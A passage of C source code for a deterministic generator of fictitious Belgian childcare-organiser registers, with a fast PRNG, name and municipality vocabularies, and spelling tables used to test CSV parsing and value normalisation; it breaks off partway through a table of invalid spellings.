/*
 * kluis-gen — a synthetic register of childcare organisers, shaped like the
 * spreadsheet exports kluis export has to read (docs/generator.md).
 *
 *   kluis-gen --rows N [--seed S] [--dirty PERCENT]
 *             [--encoding utf-8|utf-8-bom|cp1252] [--delimiter ';'|',']
 *             [--crlf] [--headers 1|2] [--nfd] [--out FILE]
 *             [--stats FILE] [--check PROTOCOL]
 *
 * Everything is fictitious and deterministic: the same options and seed give
 * the same bytes.  The rows themselves depend only on --seed, --rows and
 * --dirty; encoding, delimiter, line ends, header set and --nfd change only
 * how they are written, so tests can compare the records kluis reads from
 * two writings of one register.
 *
 * Speed matters (tests and benchmarks want millions of rows), so rows are
 * built in an arena with hand-formatted numbers and written through one
 * large buffer; there is no printf per field.
 */
#include <errno.h>
#include <fcntl.h>
#include <inttypes.h>
#include <limits.h>
#include <math.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <jansson.h>
#include <utf8proc.h>

#include "kluis.h"

#include "banned.h"

#define ARRAY_LEN(a) (sizeof(a) / sizeof *(a))

/* Rows are shuffled within windows of this many, so that the initiatives
 * of one organiser are not adjacent while memory stays bounded. */
#define WINDOW 4096

/* Output is handed to write(2) in blocks of about this size. */
#define OUT_BLOCK (1u << 20)

#define NO_DATE INT32_MIN

/* ------------------------------------------------------------ failures */

static void die(const char *msg, const char *detail)
{
	fprintf(stderr, "kluis-gen: %s%s%s\n", msg, detail ? ": " : "",
		detail ? detail : "");
	exit(1);
}

static void usage_error(const char *msg, const char *detail)
{
	fprintf(stderr, "kluis-gen: %s%s%s\n", msg, detail ? ": " : "",
		detail ? detail : "");
	fprintf(stderr, "usage: kluis-gen --rows N [--seed S] [--dirty PERCENT] "
			"[--encoding utf-8|utf-8-bom|cp1252] [--delimiter ';'|','] "
			"[--crlf] [--headers 1|2] [--nfd] [--out FILE] "
			"[--stats FILE] [--check PROTOCOL]\n");
	exit(2);
}

static void *xrealloc(void *p, size_t n)
{
	void *q = realloc(p, n ? n : 1);

	if (!q)
		die("out of memory", NULL);
	return q;
}

/* ----------------------------------------------------------------- PRNG */

/*
 * xoshiro256** seeded through splitmix64: fast, good enough for test data,
 * and the same on every platform (rand() is neither).  Each purpose has its
 * own stream, so adding defects (--dirty) does not change the clean rows.
 */
struct rng {
	uint64_t s[4];
};

static uint64_t splitmix64(uint64_t *x)
{
	uint64_t z = (*x += 0x9e3779b97f4a7c15u);

	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9u;
	z = (z ^ (z >> 27)) * 0x94d049bb133111ebu;
	return z ^ (z >> 31);
}

static void rng_seed(struct rng *r, uint64_t seed, uint64_t stream)
{
	uint64_t x = seed ^ (stream * 0xd1b54a32d192ed03u);

	for (int i = 0; i < 4; i++)
		r->s[i] = splitmix64(&x);
}

static inline uint64_t rotl(uint64_t x, int k)
{
	return (x << k) | (x >> (64 - k));
}

static inline uint64_t rng_next(struct rng *r)
{
	uint64_t *s = r->s;
	uint64_t out = rotl(s[1] * 5, 7) * 9;
	uint64_t t = s[1] << 17;

	s[2] ^= s[0];
	s[3] ^= s[1];
	s[1] ^= s[2];
	s[0] ^= s[3];
	s[2] ^= t;
	s[3] = rotl(s[3], 45);
	return out;
}

/* Uniform in [0, n) by a multiply-shift; the bias (< n / 2^32) is
 * irrelevant for test data and it needs no division. */
static inline uint32_t below(struct rng *r, uint32_t n)
{
	return (uint32_t)(((rng_next(r) >> 32) * (uint64_t)n) >> 32);
}

/* True with probability permille / 1000. */
static inline bool chance(struct rng *r, unsigned permille)
{
	return below(r, 1000) < permille;
}

/* An index drawn with the given weights. */
static unsigned wpick(struct rng *r, const uint16_t *w, unsigned n)
{
	unsigned total = 0, u;

	for (unsigned i = 0; i < n; i++)
		total += w[i];
	u = below(r, total);
	for (unsigned i = 0; i < n; i++) {
		if (u < w[i])
			return i;
		u -= w[i];
	}
	return n - 1;
}

#define PICK(r, arr) ((arr)[below((r), (uint32_t)ARRAY_LEN(arr))])
#define WPICK(r, w) wpick((r), (w), (unsigned)ARRAY_LEN(w))

/* ------------------------------------------------------------ vocabulary */

/*
 * Every string below must be representable in Windows-1252 (checked at
 * start-up), so that each register can be written in that encoding: hence
 * "Yilmaz" and "Wisniewski", as Belgian registers often write them anyway.
 */
static const char *const FAMILY[] = {
	/* Flemish */
	"Peeters", "Janssens", "Maes", "Jacobs", "Mertens", "Willems",
	"Claes", "Goossens", "Wouters", "De Smet", "Hermans", "Aerts",
	"Martens", "Verstraeten", "Van den Broeck", "Vermeulen", "Pauwels",
	"De Clercq", "Desmet", "Michiels", "Vandenberghe", "Stevens",
	"Claeys", "Smets", "Segers", "Declercq", "De Backer", "Van Damme",
	"Verhoeven", "Coppens", "De Vos", "Bogaerts", "Van de Velde", "Cools",
	"Wuyts", "Lemmens", "Verbeke", "Dewulf", "Thys", "Van Dyck",
	"Hendrickx", "De Wilde", "Van Hoof", "Van Acker", "Vercammen",
	"Verschueren", "Vanhove", "De Cock", "Baert", "Desmedt", "Van Laere",
	"Geerts", "Verlinden", "Laenen", "Van Hecke", "Devos", "Heylen",
	"Dierckx", "Van Gucht", "Vandamme", "De Meyer", "Timmermans",
	"Slegers", "D'Hondt", "D'Haese", "Vanderstraeten", "Callewaert",
	"Claessens", "Hoste", "Moens", "Nijs", "Roels", "Schepens",
	"Serneels", "Smolders", "Tack", "Van Aelst", "Van Bael", "Van Camp",
	"Van der Auwera", "Verhaegen", "Verheyen", "Vlaeminck", "Wauters",
	"Ysebaert", "Goethals", "Vermeiren", "Ceulemans", "Noël", "Boël",
	"Moës", "Van Hulle", "Beullens", "Cuypers", "Gysels",
	/* Walloon and Brussels French */
	"Dubois", "Lambert", "Dupont", "Leclercq", "Lefèvre", "Lemaître",
	"Crèvecoeur", "Gérard", "Hénin", "Bégin", "Ménard", "Thérasse",
	"Rémy", "André", "Lefébure", "Dumoulin", "Lejeune", "Lambotte",
	"Renard", "Laurent", "Leroy", "François", "Rousseau", "Fontaine",
	"Lecomte", "Collard", "Mathieu", "Poncelet", "Piérard", "Delvaux",
	"Léonard", "Thiébaut", "Hélin", "Delhaye", "Jacquemin", "Fréson",
	"Pâques", "Mélon", "Gilles", "Hubert",
	/* Dutch */
	"de Jong", "Jansen", "de Vries", "van den Berg", "van Dijk", "Bakker",
	"Visser", "Smit", "Meijer", "de Boer", "Mulder", "de Groot", "Bos",
	"Hendriks", "van Leeuwen", "Dekker", "Brouwer", "de Wit", "Dijkstra",
	/* Moroccan */
	"El Amrani", "Benali", "El Idrissi", "Bouzid", "Boukhari",
	"El Haddouchi", "Aït Ali", "Ben Said", "Azzouzi", "El Ouardi",
	"Bakkali", "Chakir", "Hamdaoui", "El Khattabi", "Ouali", "Ziani",
	"Mansouri", "Tahiri", "Lahlou", "Berrada", "El Fassi", "Achahbar",
	"Ouariachi", "Belhaj", "Essaïdi", "El Moussaoui", "Laaroussi",
	"Abdellaoui",
	/* Turkish */
	"Yilmaz", "Kaya", "Demir", "Sahin", "Çelik", "Yildiz", "Öztürk",
	"Aydin", "Özdemir", "Arslan", "Dogan", "Kiliç", "Çetin", "Koç",
	"Kurt", "Özkan", "Polat", "Korkmaz", "Erdogan", "Güler", "Akgül",
	"Ünal", "Türkmen", "Sönmez", "Acar",
	/* Polish */
	"Nowak", "Kowalski", "Wisniewski", "Wójcik", "Kowalczyk", "Kaminski",
	"Lewandowski", "Zielinski", "Szymanski", "Wozniak", "Dabrowski",
	"Kozlowski", "Jankowski", "Mazur", "Kwiatkowski", "Krawczyk",
	"Piotrowski", "Grabowski", "Pawlowski", "Michalski", "Król",
	"Wróbel", "Zajac", "Wieczorek", "Jablonski", "Górski",
};
_Static_assert(ARRAY_LEN(FAMILY) >= 200, "at least 200 family names");

static const char *const GIVEN[] = {
	/* Flemish and Dutch */
	"Jan", "Piet", "Joris", "Koen", "Bart", "Tom", "Wim", "Kris", "Dirk",
	"Geert", "Hilde", "Els", "An", "Ann", "Inge", "Veerle", "Katrien",
	"Sofie", "Lies", "Leen", "Sarah", "Lotte", "Eline", "Jolien", "Nele",
	"Ellen", "Griet", "Marleen", "Martine", "Christel", "Ria", "Mieke",
	"Kathleen", "Evelien", "Tine", "Liesbeth", "Annelies", "Femke",
	"Charlotte", "Emma", "Marie", "Julie", "Laura", "Lisa", "Hanne",
	"Fien", "Jana", "Ine", "Kim", "Caroline", "Karen", "Sandra",
	"Patricia", "Bieke", "Lut", "Godelieve", "Bram", "Pieter", "Maarten",
	"Stijn", "Jeroen", "Dries", "Wouter", "Thomas", "Sven", "Kevin",
	"Nick", "Jens", "Ruben", "Steven", "Filip", "Luc", "Marc", "Rudi",
	"Guy", "Eddy", "Zoë", "Chloë", "Noël", "Joëlle", "Daphné", "Ilse",
	/* French */
	"Hélène", "Inès", "Françoise", "Anaïs", "Loïc", "Maëlle", "Joël",
	"Gaëlle", "Léa", "Élodie", "Céline", "Renée", "André", "José",
	"Jérôme", "Stéphanie", "Frédéric", "Aurélie", "Mélanie", "Valérie",
	"Amélie", "Noémie", "Raphaël", "Michaël", "Isabelle", "Sophie",
	"Nathalie", "Sylvie", "Véronique", "Christine", "Monique", "Brigitte",
	"Dominique", "Chantal", "Anne-Sophie", "Jean-Pierre", "Marie-Claire",
	"Philippe", "Benoît", "Geneviève", "Thérèse", "Agnès", "Maïté",
	"Cécile", "Josée", "Noëlle", "Ludivine", "Aurore", "Pénélope",
	/* Turkish */
	"Büsra", "Gül", "Gülsen", "Özlem", "Çigdem", "Ömer", "Gökhan",
	"Hülya", "Elif", "Ayse", "Fatma", "Emine", "Hatice", "Zeynep",
	"Mehmet", "Mustafa", "Ahmet", "Murat", "Emre", "Burak", "Seyma",
	/* Moroccan */
	"Fatima", "Khadija", "Mohamed", "Youssef", "Said", "Nadia",
	"Karima", "Samira", "Naima", "Latifa", "Hanane", "Soukaina", "Ikram",
	"Imane", "Yasmina", "Salma", "Rachid", "Mustapha", "Hamza", "Bilal",
	"Mounir", "Nordin", "Ayoub", "Saïd", "Loubna",
	/* Polish */
	"Agnieszka", "Katarzyna", "Malgorzata", "Anna", "Joanna",
	"Magdalena", "Ewa", "Barbara", "Piotr", "Krzysztof", "Tomasz",
	"Pawel", "Marek", "Michal", "Zofia", "Dorota",
};
_Static_assert(ARRAY_LEN(GIVEN) >= 150, "at least 150 given names");

/* Given names with an accent, for the decomposed-accents defect when a
 * row has none of its own. */
static const char *const GIVEN_ACCENT[] = {
	"Hélène", "Zoë", "Chloë", "Françoise", "Anaïs", "Élodie", "Céline",
	"Jérôme", "Benoît", "Thérèse", "Özlem", "Çigdem", "Ömer", "Büsra",
};

struct gemeente {
	const char *postcode;
	const char *name;
};

/* Flemish and Brussels municipalities (a few Brussels ones also in their
 * French name, as bilingual registers write them). */
static const struct gemeente GEMEENTE[] = {
	{ "1000", "Brussel" }, { "1000", "Bruxelles" },
	{ "1030", "Schaarbeek" }, { "1030", "Schaerbeek" },
	{ "1040", "Etterbeek" }, { "1050", "Elsene" }, { "1050", "Ixelles" },
	{ "1060", "Sint-Gillis" }, { "1070", "Anderlecht" },
	{ "1080", "Sint-Jans-Molenbeek" }, { "1080", "Molenbeek-Saint-Jean" },
	{ "1081", "Koekelberg" }, { "1082", "Sint-Agatha-Berchem" },
	{ "1083", "Ganshoren" }, { "1090", "Jette" }, { "1140", "Evere" },
	{ "1150", "Sint-Pieters-Woluwe" }, { "1160", "Oudergem" },
	{ "1170", "Watermaal-Bosvoorde" }, { "1180", "Ukkel" },
	{ "1180", "Uccle" }, { "1190", "Vorst" },
	{ "1200", "Sint-Lambrechts-Woluwe" }, { "1210", "Sint-Joost-ten-Node" },
	{ "1500", "Halle" }, { "1600", "Sint-Pieters-Leeuw" },
	{ "1640", "Sint-Genesius-Rode" }, { "1640", "Rhode-Saint-Genèse" },
	{ "1650", "Beersel" }, { "1700", "Dilbeek" }, { "1730", "Asse" },
	{ "1740", "Ternat" }, { "1750", "Lennik" }, { "1770", "Liedekerke" },
	{ "1780", "Wemmel" }, { "1800", "Vilvoorde" },
	{ "1820", "Steenokkerzeel" }, { "1830", "Machelen" },
	{ "1840", "Londerzeel" }, { "1850", "Grimbergen" }, { "1860", "Meise" },
	{ "1910", "Kampenhout" }, { "1930", "Zaventem" }, { "1950", "Kraainem" },
	{ "1970", "Wezembeek-Oppem" }, { "1560", "Hoeilaart" },
	{ "3000", "Leuven" }, { "3020", "Herent" }, { "3040", "Huldenberg" },
	{ "3050", "Oud-Heverlee" }, { "3060", "Bertem" },
	{ "3070", "Kortenberg" }, { "3080", "Tervuren" }, { "3090", "Overijse" },
	{ "3110", "Rotselaar" }, { "3150", "Haacht" }, { "3200", "Aarschot" },
	{ "3270", "Scherpenheuvel-Zichem" }, { "3290", "Diest" },
	{ "3300", "Tienen" }, { "3400", "Landen" }, { "3440", "Zoutleeuw" },
	{ "2000", "Antwerpen" }, { "2800", "Mechelen" }, { "2300", "Turnhout" },
	{ "2500", "Lier" }, { "2200", "Herentals" }, { "2400", "Mol" },
	{ "2440", "Geel" }, { "2900", "Schoten" }, { "2930", "Brasschaat" },
	{ "2950", "Kapellen" }, { "2640", "Mortsel" }, { "2650", "Edegem" },
	{ "2550", "Kontich" }, { "2840", "Rumst" }, { "2830", "Willebroek" },
	{ "2880", "Bornem" }, { "2870", "Puurs-Sint-Amands" },
	{ "2220", "Heist-op-den-Berg" }, { "2260", "Westerlo" },
	{ "2390", "Malle" }, { "2960", "Brecht" }, { "2980", "Zoersel" },
	{ "2970", "Schilde" }, { "2160", "Wommelgem" }, { "2490", "Balen" },
	{ "2340", "Beerse" }, { "2275", "Lille" }, { "2460", "Kasterlee" },
	{ "9000", "Gent" }, { "9300", "Aalst" }, { "9100", "Sint-Niklaas" },
	{ "9200", "Dendermonde" }, { "9500", "Geraardsbergen" },
	{ "9600", "Ronse" }, { "9700", "Oudenaarde" }, { "9800", "Deinze" },
	{ "9900", "Eeklo" }, { "9120", "Beveren" }, { "9140", "Temse" },
	{ "9160", "Lokeren" }, { "9230", "Wetteren" }, { "9240", "Zele" },
	{ "9400", "Ninove" }, { "9420", "Erpe-Mere" }, { "9820", "Merelbeke" },
	{ "9830", "Sint-Martens-Latem" }, { "9840", "De Pinte" },
	{ "9880", "Aalter" }, { "9090", "Melle" }, { "9060", "Zelzate" },
	{ "9070", "Destelbergen" }, { "9080", "Lochristi" },
	{ "9290", "Berlare" }, { "9220", "Hamme" }, { "9620", "Zottegem" },
	{ "9660", "Brakel" }, { "9680", "Maarkedal" },
	{ "8000", "Brugge" }, { "8400", "Oostende" }, { "8500", "Kortrijk" },
	{ "8800", "Roeselare" }, { "8900", "Ieper" },
	{ "8300", "Knokke-Heist" }, { "8370", "Blankenberge" },
	{ "8420", "De Haan" }, { "8430", "Middelkerke" }, { "8450", "Bredene" },
	{ "8530", "Harelbeke" }, { "8550", "Zwevegem" },
	{ "8560", "Wevelgem" }, { "8620", "Nieuwpoort" }, { "8630", "Veurne" },
	{ "8660", "De Panne" }, { "8670", "Koksijde" }, { "8700", "Tielt" },
	{ "8790", "Waregem" }, { "8820", "Torhout" }, { "8870", "Izegem" },
	{ "8930", "Menen" }, { "8970", "Poperinge" },
	{ "8920", "Langemark-Poelkapelle" },
	{ "3500", "Hasselt" }, { "3600", "Genk" }, { "3700", "Tongeren" },
	{ "3800", "Sint-Truiden" }, { "3900", "Pelt" }, { "3920", "Lommel" },
	{ "3930", "Hamont-Achel" }, { "3960", "Bree" },
	{ "3970", "Leopoldsburg" }, { "3980", "Tessenderlo" },
	{ "3520", "Zonhoven" }, { "3530", "Houthalen-Helchteren" },
	{ "3540", "Herk-de-Stad" }, { "3550", "Heusden-Zolder" },
	{ "3580", "Beringen" }, { "3590", "Diepenbeek" },
	{ "3620", "Lanaken" }, { "3630", "Maasmechelen" },
	{ "3680", "Maaseik" }, { "3740", "Bilzen" }, { "3770", "Riemst" },
	{ "3790", "Voeren" }, { "3840", "Borgloon" },
};
_Static_assert(ARRAY_LEN(GEMEENTE) >= 100, "at least 100 municipalities");

static const char *const STREET[] = {
	"Kerkstraat", "Stationsstraat", "Dorpsstraat", "Molenstraat",
	"Nieuwstraat", "Schoolstraat", "Kapelstraat", "Beekstraat",
	"Hoogstraat", "Veldstraat", "Kasteelstraat", "Lindelaan",
	"Kouterstraat", "Bosstraat", "Brugstraat", "Heirbaan", "Steenweg",
	"Grote Markt", "Marktplein", "Ringlaan", "Koning Albertlaan",
	"Leopoldlaan", "Sint-Jorisstraat", "Bergstraat", "Langestraat",
	"Zandstraat", "Akkerstraat", "Populierenlaan", "Eikenlaan",
	"Berkenlaan", "Kastanjelaan", "Weversstraat", "Pastorijstraat",
	"Rue de l'Église", "Chaussée de Waterloo", "Avenue Louise",
	"Rue Haute", "Boulevard Général Jacques", "Rue Émile Féron",
};

/* Names of childcare initiatives, without their legal form. */
static const char *const ORG_BASE[] = {
	"De Speelboom", "Het Kabouterhuisje", "'t Zonnetje", "De Rupsjes",
	"Kinderland", "De Notelaar", "Het Vlindertje", "Bengelhuis",
	"De Ukkies", "Kindervreugde", "De Regenboog", "Pimpampoentje",
	"Het Speelkasteel", "De Boomhut", "De Knuffelbeer", "Het Nestje",
	"De Kangoeroe", "Zonnestraal", "Kriebelbeestjes", "De Wiegewaaier",
	"Ukkepuk", "Hummeltjes", "De Kleine Wereld", "Het Sterretje",
	"Klein Duimpje", "De Speelvogel", "Het Kinderhuis", "De Kleine Prins",
	"Lieveheersbeestje", "Kids & Co", "Baby's Paradijs", "Mini Mundi",
	"De Bijenkorf", "Het Mierennest", "'t Klavertje", "De Vlinderboom",
	"Tuimelaar", "Zonnebloem", "De Piraatjes", "Boemerang",
	"Les Petits Loups", "La Ribambelle", "Les Lutins", "Les Câlins",
	"Le Nid Douillet", "Les Petits Génies", "L'Île aux Enfants",
	"Les Bambins", "Ons Kinderhuis", "Sint-Vincentius", "De Speelkriebel",
	"Zonneweelde", "Het Paradijsje", "De Fantasie", "Kindjeshuis",
	"Duimelotje", "Robbedoes", "De Dromenvanger", "Kinderparadijs",
	"Crèche Mariëtte", "Het Wiegje", "De Pagadder", "Kinderrijk",
};

/* Accented organisation names for the decomposed-accents defect. */
static const char *const ORG_ACCENT[] = {
	"VZW Les Petits Génies", "Crèche Mariëtte BV", "VZW L'Île aux Enfants",
	"Kinderopvang Les Câlins", "Crèche Élodie",
};

/* Free-text remarks: long and distinctive, so that none can be mistaken
 * for a value of another column (tests look for dropped values in
 * packages). */
static const char *const OPMERKING[] = {
	"Verhuisd naar een nieuwe locatie in het najaar",
	"Contact enkel via het regioteam opnemen",
	"Attest van toezicht aangevraagd, nog niet ontvangen",
	"Bezoek gepland; verslag volgt na de zomer",
	"Ouders melden een \"wachtlijst\" van meer dan een jaar",
	"Telefonisch enkel 's avonds bereikbaar",
	"Zie dossier van de vorige organisator\nvoor de historiek",
	"Overname door nieuwe organisator; \"Het Nestje\" blijft bestaan",
	"Capaciteit verhoogd na de verbouwing van 2019",
	"Inspectie 12/03/2018: alles in orde, geen opmerkingen",
	"Subsidie tijdelijk stopgezet wegens onvolledig dossier",
	"Opvolging door zorginspectie;\nheropname gepland in het voorjaar",
	"Sluiting wegens verbouwing (drie maanden), daarna heropend",
	"Vraagt communicatie in het Frans, graag per brief",
	"Adres gewijzigd, zie mail van de organisator van 4 mei",
	"Geen antwoord op de laatste herinnering per post",
	"Brand in 2017 – tijdelijk op een andere locatie",
	"Crèche werkt tweetalig (Nederlands, Frans)",
	"Na de fusie deel van \"Kinderopvang Samen\", zie KBO",
	"Kwaliteitshandboek opgevraagd, nog niet bezorgd",
};

/* Remarks with separators, quotes and line breaks, for the
 * embedded-separator defect. */
static const char *const OPMERKING_JUNK[] = {
	"Opmerking; \"dringend\"\nbellen na 18 uur, niet op woensdag",
	"Let op: twee locaties;\n\"De Speelboom\" en \"Het Nestje\", zie dossier",
	"\"Wachtlijst\", drie kinderen;\nopvolgen bij het volgende bezoek",
	"Regel 1; regel 2\r\nregel 3, met \"aanhalingstekens\"",
};

static const char *const NAAM_JUNK[] = {
	";\nafdeling Noord", ", \"De Kleine\";\ntweede vestiging",
	"; zie ook \"Het Nestje\", tweede locatie", "\n(verhuisd; nieuw adres)",
};

static const char *const GEMEENTE_JUNK[] = {
	";\ndeelgemeente", ", \"centrum\"", ";\n(wijk Zuid, nieuwe locatie)",
	"\nnieuwe locatie; zie adres",
};

static const char *const MAIL_DOMAIN[] = {
	"telenet.be", "gmail.com", "hotmail.com", "skynet.be", "outlook.be",
	"proximus.be", "hotmail.be", "outlook.com", "live.be", "yahoo.fr",
};
static const uint16_t MAIL_DOMAIN_W[] = { 25, 25, 12, 8, 6, 5, 6, 5, 5, 3 };
_Static_assert(ARRAY_LEN(MAIL_DOMAIN) == ARRAY_LEN(MAIL_DOMAIN_W), "weights");

/*
 * Enumerations: the protocol's canonical values (what kluis must produce)
 * and the spellings registers use for them (labels, aliases, abbreviations;
 * case variants are added when written).  --check verifies that each
 * spelling normalises to its value under the protocol.
 */
struct spell {
	uint8_t v;
	const char *s;
};

struct spelltab {
	const char *field;             /* protocol field name */
	const char *const *canon;      /* canonical value per v */
	unsigned n_values;
	const struct spell *e;
	unsigned n;
	unsigned first[16], count[16]; /* entries of each v (filled at start) */
	char *forms;                   /* each entry in each case form, */
	struct span *form;             /* made once: form[4 * entry + cf] */
};

enum { T_GEZIN, T_GROEP, T_BSO, N_TYPE };
static const char *const TYPE_CANON[] = { "gezinsopvang", "groepsopvang",
					  "buitenschoolse opvang" };
static const struct spell TYPE_SPELL[] = {
	{ T_GEZIN, "Gezinsopvang" },
	{ T_GEZIN, "Gezinsopvang van baby's en peuters" },
	{ T_GEZIN, "Gezinsopvang van baby’s en peuters" },
	{ T_GEZIN, "Onthaalouder" },
	{ T_GEZIN, "Zelfstandige onthaalouder" },
	{ T_GEZIN, "Aangesloten onthaalouder" },
	{ T_GEZIN, "Opvanggezin" },
	{ T_GEZIN, "Dienst voor onthaalouders" },
	{ T_GEZIN, "Organisator gezinsopvang" },
	{ T_GROEP, "Groepsopvang" },
	{ T_GROEP, "Kinderdagverblijf" },
	{ T_GROEP, "Groepsopvang van baby's en peuters" },
	{ T_GROEP, "KDV" },
	{ T_GROEP, "Zelfstandig kinderdagverblijf" },
	{ T_GROEP, "Erkend kinderdagverblijf" },
	{ T_GROEP, "Crèche" },
	{ T_GROEP, "Mini-crèche" },
	{ T_GROEP, "Kribbe" },
	{ T_BSO, "Buitenschoolse opvang" },
	{ T_BSO, "BKO" },
	{ T_BSO, "IBO" },
	{ T_BSO, "Initiatief buitenschoolse opvang" },
	{ T_BSO, "Buitenschoolse kinderopvang" },
	{ T_BSO, "Naschoolse opvang" },
	{ T_BSO, "Voor- en naschoolse opvang" },
	{ T_BSO, "Vakantieopvang" },
	{ T_BSO, "Buitenschoolse opvang van schoolgaande kinderen" },
	{ T_BSO, "Groepsopvang schoolgaande kinderen" },
};

enum { S_HOOFD, S_BIJ, S_ZELF, S_WERKN, S_OOUDER, S_NVT, N_STATUUT };
static const char *const STATUUT_CANON[] = {
	"zelfstandige in hoofdberoep", "zelfstandige in bijberoep",
	"zelfstandige", "werknemer", "sociaal statuut onthaalouder",
	"niet van toepassing",
};
static const struct spell STATUUT_SPELL[] = {
	{ S_HOOFD, "Zelfstandige in hoofdberoep" },
	{ S_HOOFD, "zelfstandige hoofdberoep" },
	{ S_HOOFD, "Zelfstandig in hoofdberoep" },
	{ S_HOOFD, "Zelfstandig hoofdberoep" },
	{ S_BIJ, "Zelfstandige in bijberoep" },
	{ S_BIJ, "zelfstandige bijberoep" },
	{ S_BIJ, "Zelfstandig in bijberoep" },
	{ S_BIJ, "Zelfstandig bijberoep" },
	{ S_ZELF, "Zelfstandige" },
	{ S_ZELF, "zelfstandig" },
	{ S_ZELF, "Zelfstandigenstatuut" },
	{ S_WERKN, "Werknemer" },
	{ S_WERKN, "Bediende" },
	{ S_WERKN, "Loontrekkende" },
	{ S_WERKN, "Werknemersstatuut" },
	{ S_OOUDER, "Sociaal statuut onthaalouder" },
	{ S_OOUDER, "Sui generis" },
	{ S_OOUDER, "Statuut onthaalouder" },
	{ S_OOUDER, "Onthaalouderstatuut" },
	{ S_OOUDER, "Sociaal statuut van onthaalouder (sui generis)" },
	{ S_NVT, "Niet van toepassing" },
	{ S_NVT, "nvt" },
	{ S_NVT, "n.v.t." },
	{ S_NVT, "Rechtspersoon" },
};

enum { TR0, TR1, TR2, TR2A, TR2B, TR2AB, TR3, N_TRAP };
static const char *const TRAP_CANON[] = {
	"trap 0", "trap 1", "trap 2", "trap 2A", "trap 2B", "trap 2A en 2B",
	"trap 3",
};
static const struct spell TRAP_SPELL[] = {
	{ TR0, "Trap 0" },
	{ TR0, "T0" },
	{ TR0, "Geen subsidie" },
	{ TR0, "Trap 0: vergunning zonder subsidie" },
	{ TR0, "niet gesubsidieerd" },
	{ TR1, "Trap 1" },
	{ TR1, "T1" },
	{ TR1, "Basissubsidie" },
	{ TR1, "enkel T1" },
	{ TR2, "Trap 2" },
	{ TR2, "T2" },
	{ TR2, "Subsidie inkomenstarief" },
	{ TR2A, "Trap 2A" },
	{ TR2A, "T2A" },
	{ TR2A, "trap2a" },
	{ TR2A, "enkel T2A" },
	{ TR2B, "Trap 2B" },
	{ TR2B, "T2B" },
	{ TR2B, "enkel T2B" },
	{ TR2AB, "Trap 2A en 2B" },
	{ TR2AB, "T2A+T2B" },
	{ TR2AB, "trap 2A+2B" },
	{ TR2AB, "T2A en T2B" },
	{ TR3, "Trap 3" },
	{ TR3, "T3" },
	{ TR3, "Plussubsidie" },
};

enum {
	R_NP, R_BV, R_VZW, R_NV, R_COMMV, R_VOF, R_CV, R_MAATSCHAP, R_LOKAAL,
	R_FV, R_STICHTING, N_RV
};
static const char *const RV_CANON[] = {
	"natuurlijke persoon", "BV", "VZW", "NV", "CommV", "VOF", "CV",
	"maatschap", "lokaal bestuur", "feitelijke vereniging", "stichting",
};
/* No bare "Gemeente" or "Stad": as a value they would equal a field name
 * or header (tests look for register values in kluis's reports). */
static const struct spell RV_SPELL[] = {
	{ R_NP, "Natuurlijke persoon" },
	{ R_NP, "natuurlijk persoon" },
	{ R_NP, "Eenmanszaak" },
	{ R_NP, "Particulier" },
	{ R_BV, "BV" },
	{ R_BV, "BVBA" },
	{ R_BV, "Besloten vennootschap" },
	{ R_BV, "EBVBA" },
	{ R_BV, "SRL" },
	{ R_BV, "Besloten vennootschap (BV, vroeger BVBA)" },
	{ R_VZW, "VZW" },
	{ R_VZW, "vzw" },
	{ R_VZW, "v.z.w." },
	{ R_VZW, "Vereniging zonder winstoogmerk" },
	{ R_VZW, "ASBL" },
	{ R_NV, "NV" },
	{ R_NV, "Naamloze vennootschap" },
	{ R_NV, "SA" },
	{ R_COMMV, "CommV" },
	{ R_COMMV, "Comm.V." },
	{ R_COMMV, "GCV" },
	{ R_COMMV, "Commanditaire vennootschap" },
	{ R_VOF, "VOF" },
	{ R_VOF, "Vennootschap onder firma" },
	{ R_VOF, "SNC" },
	{ R_CV, "CV" },
	{ R_CV, "CVBA" },
	{ R_CV, "Coöperatieve vennootschap" },
	{ R_CV, "SCRL" },
	{ R_MAATSCHAP, "Maatschap" },
	{ R_MAATSCHAP, "Burgerlijke maatschap" },
	{ R_LOKAAL, "Lokaal bestuur" },
	{ R_LOKAAL, "OCMW" },
	{ R_LOKAAL, "Gemeentebestuur" },
	{ R_LOKAAL, "Stadsbestuur" },
	{ R_LOKAAL, "AGB" },
	{ R_LOKAAL, "Lokaal bestuur (gemeente, OCMW …)" },
	{ R_FV, "Feitelijke vereniging" },
	{ R_FV, "Vereniging zonder rechtspersoonlijkheid" },
	{ R_STICHTING, "Stichting" },
	{ R_STICHTING, "Private stichting" },
	{ R_STICHTING, "Stichting van openbaar nut" },
};

enum { IKT_NEE, IKT_JA, N_IKT };
static const char *const IKT_CANON[] = { "nee", "ja" };
static const struct spell IKT_SPELL[] = {
	{ IKT_NEE, "nee" }, { IKT_NEE, "N" }, { IKT_NEE, "Nee" },
	{ IKT_NEE, "n" }, { IKT_NEE, "0" }, { IKT_NEE, "Niet IKT" },
	{ IKT_NEE, "geen IKT" }, { IKT_NEE, "Vrije prijs" },
	{ IKT_JA, "ja" }, { IKT_JA, "J" }, { IKT_JA, "Ja" }, { IKT_JA, "j" },
	{ IKT_JA, "x" }, { IKT_JA, "X" }, { IKT_JA, "1" }, { IKT_JA, "IKT" },
	{ IKT_JA, "Met IKT" }, { IKT_JA, "inkomenstarief" },
};

static struct spelltab TAB_TYPE = { "vergunningstype", TYPE_CANON, N_TYPE,
				    TYPE_SPELL, ARRAY_LEN(TYPE_SPELL),
				    { 0 }, { 0 }, NULL, NULL };
static struct spelltab TAB_STATUUT = { "sociaal_statuut", STATUUT_CANON,
				       N_STATUUT, STATUUT_SPELL,
				       ARRAY_LEN(STATUUT_SPELL), { 0 }, { 0 }, NULL, NULL };
static struct spelltab TAB_TRAP = { "subsidievoorwaarden", TRAP_CANON, N_TRAP,
				    TRAP_SPELL, ARRAY_LEN(TRAP_SPELL),
				    { 0 }, { 0 }, NULL, NULL };
static struct spelltab TAB_RV = { "rechtsvorm", RV_CANON, N_RV, RV_SPELL,
				  ARRAY_LEN(RV_SPELL), { 0 }, { 0 }, NULL, NULL };
static struct spelltab TAB_IKT = { "ikt", IKT_CANON, N_IKT, IKT_SPELL,
				   ARRAY_LEN(IKT_SPELL), { 0 }, { 0 }, NULL, NULL };
static struct spelltab *const TABS[] = { &TAB_TYPE, &TAB_STATUUT, &TAB_TRAP,
					 &TAB_RV, &TAB_IKT };

/* Spellings no protocol value matches, for the unknown-value defect. */
static const char *const BAD_TYPE[] = {
